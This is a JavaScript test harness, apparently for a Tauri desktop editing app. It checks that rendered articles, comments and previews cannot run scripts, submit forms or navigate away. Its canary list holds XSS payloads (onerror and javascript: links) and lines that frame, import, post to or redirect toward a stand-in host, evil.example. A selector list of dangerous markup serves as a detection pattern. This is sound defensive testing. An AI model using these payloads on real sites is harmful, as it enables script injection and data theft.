// In the window's own page: shows what the desk gives of each article as its screens do, touches it, and notices what it does.
const [articles, raw, done] = arguments;
const ask = (command, args) => window.__TAURI_INTERNALS__.invoke(command, { args });
const own = location.href;
const soon = (ms) => new Promise((then) => setTimeout(then, ms));
const fired = [];
const tell = (what) => fired.push(what);
for (const name of ["alert", "confirm", "prompt", "print", "open"])
  window[name] = () => tell("script");
document.addEventListener("securitypolicyviolation", (event) =>
  tell("refused " + event.effectiveDirective),
);
document.addEventListener(
  "submit",
  (event) => {
    tell("form");
    event.preventDefault();
  },
  true,
);
const strange =
  "script:not([type='application/ld+json']), iframe, frame, object, embed, form, input, button, textarea, select, base, svg, math, " +
  "video, audio, dialog, template, noscript, marquee, [style], [autofocus], [tabindex]:not([tabindex='-1']), [contenteditable], " +
  "[target], [ping], [srcdoc], [popover], [accesskey], [action], [formaction], [background], meta[http-equiv=refresh i]";
// Where a link of HTML leads, or one of SVG by its older name.
const linked = (one) =>
  one.getAttribute("href") ?? one.getAttributeNS("http://www.w3.org/1999/xlink", "href");
// The scheme of an address as a browser reads it; of one that it can't read, none.
const schemeOf = (address) =>
  URL.canParse(address, "https://own.example/") ? new URL(address, "https://own.example/").protocol : "";
const schemes = ["http:", "https:", "mailto:", "tel:", "asset:"];
// What is there and should not be, whether it did anything or not.
function left(root) {
  for (const one of root.querySelectorAll(strange)) tell("left " + one.localName);
  for (const one of root.querySelectorAll("*")) {
    // A form may call something in it `attributes`.
    for (const name of Element.prototype.getAttributeNames.call(one))
      if (name.startsWith("on")) tell("left " + name);
    for (const address of [linked(one), one.getAttribute("src")]) {
      const scheme = schemeOf(address ?? "");
      if (scheme && !schemes.includes(scheme)) tell("left " + scheme);
    }
  }
}
const host = document.createElement("div");
host.className = "reading";
document.body.append(host);
const events = ["mouseover", "pointerover", "pointerdown", "focus", "toggle", "copy", "animationstart"];
function touch(root) {
  for (const one of root.querySelectorAll("*")) {
    for (const type of events) one.dispatchEvent(new Event(type));
    const link = one.closest("a, area");
    // Where the window would go to is no question of what is on a page: `only_the_own_pages_are_shown` answers it.
    const address = link && linked(link);
    if (typeof address === "string" && schemeOf(address) !== "javascript:") continue;
    one.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  }
}
// Shows it until something of `wanted` happened, or for a moment; what comes late counts for what is shown next.
async function shown(html, wanted) {
  sessionStorage.setItem("shown", html);
  const before = document.activeElement;
  host.innerHTML = html;
  left(host);
  touch(host);
  await soon(8);
  for (let turn = 0; wanted && turn < 150; turn += 1)
    if (fired.some((what) => what.startsWith(wanted))) break;
    else await soon(20);
  if (document.activeElement !== before && host.contains(document.activeElement)) tell("focus");
  if (location.href !== own) tell("navigation");
  // A picture from elsewhere may be in a text; it is not asked for.
  const pictures = host.querySelector("img[src^=http]");
  host.textContent = "";
  return fired.splice(0).filter((what) => !(pictures && what === "refused img-src"));
}
// The preview's frame, as its screen makes it.
async function framed(html) {
  sessionStorage.setItem("shown", html);
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-same-origin");
  const there = new Promise((then) => (frame.onload = then));
  frame.srcdoc = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, "");
  document.body.append(frame);
  await there;
  const inside = frame.contentWindow;
  if (!inside || !frame.contentDocument) tell("navigation");
  else {
    for (const name of ["alert", "confirm", "prompt", "print", "open"])
      inside[name] = () => tell("script");
    left(frame.contentDocument.body);
    touch(frame.contentDocument.body);
    await soon(25);
    if (frame.contentDocument?.URL !== "about:srcdoc") tell("navigation");
    if (frame.contentDocument?.activeElement !== frame.contentDocument?.body) tell("focus");
  }
  if (location.href !== own) tell("navigation");
  frame.remove();
  return fired.splice(0);
}
const canaries = [
  ["refused script-src", "<img src=x onerror=alert(1)>"],
  ["refused script-src", "<p onmouseover=alert(1)>words</p>"],
  ["refused script-src", "<a href=\"javascript:alert(1)\">words</a>"],
  ["refused script-src", "<svg><a xlink:href=\"javascript:alert(1)\"><text>words</text></a></svg>"],
  ["refused script-src", "<svg><a href=\"javascript:alert(1)\"><text>words</text></a></svg>"],
  ["left javascript:", "<svg><a xlink:href=\"javascript:alert(1)\"><text>words</text></a></svg>"],
  ["refused frame-src", "<iframe src=http://evil.example/></iframe>"],
  ["refused style-src", "<style>@import 'http://evil.example/p';</style>"],
  ["refused object-src", "<object data=http://evil.example/></object>"],
  ["form", "<form action=http://evil.example/><button>Send</button></form>"],
  ["left svg", "<svg></svg>"],
  ["left meta", "<meta http-equiv=refresh content='9;url=http://evil.example/'>"],
];
const answer = { places: 0, fired: [], canaries: 0, of: 0, missed: [], raw: 0, acted: 0 };
async function sing() {
  for (const [wanted, html] of canaries) {
    answer.of += 1;
    const seen = await shown(html, wanted);
    if (seen.some((what) => what.startsWith(wanted))) answer.canaries += 1;
    else answer.missed.push(`${html}: ${seen}`);
  }
  answer.of += 1;
  const page = "<!doctype html><body><p><img src=x onerror=alert(1)><svg></svg>";
  if ((await framed(page)).includes("left onerror")) answer.canaries += 1;
  else answer.missed.push("in a frame");
  // What they still do is no matter of what is shown next.
  await soon(500);
  fired.length = 0;
}
async function look(place, seen) {
  answer.places += 1;
  if (seen.length) answer.fired.push(`${place}: ${seen}`);
}
try {
  await sing();
  for (const article of articles) {
    await look(`${article} compared`, await shown((await ask("article_diff", { article })).html));
    const { rows } = await ask("review_read", { article });
    const read = rows.flatMap((row) => [row.html, row.was, row.is]).filter(Boolean);
    await look(`${article} read`, await shown(read.join("")));
    const { items } = await ask("comment_list", { article });
    for (const { id } of items) {
      const view = await ask("comment_show", { comment: id });
      await look(`comment ${id}`, await shown(view.html));
    }
    await look(`${article} previewed`, await framed((await ask("preview", { article })).html));
  }
  await soon(500);
  await look("late", fired.splice(0));
  await sing();
  sessionStorage.setItem("stage", "raw");
  for (const html of raw) {
    const seen = await shown(html);
    answer.raw += seen.length > 0;
    answer.acted += seen.some((what) => !what.startsWith("left"));
  }
  sessionStorage.removeItem("stage");
  await sing();
  host.remove();
  done(answer);
} catch (error) {
  done({ broke: JSON.stringify(error) + String(error) });
}
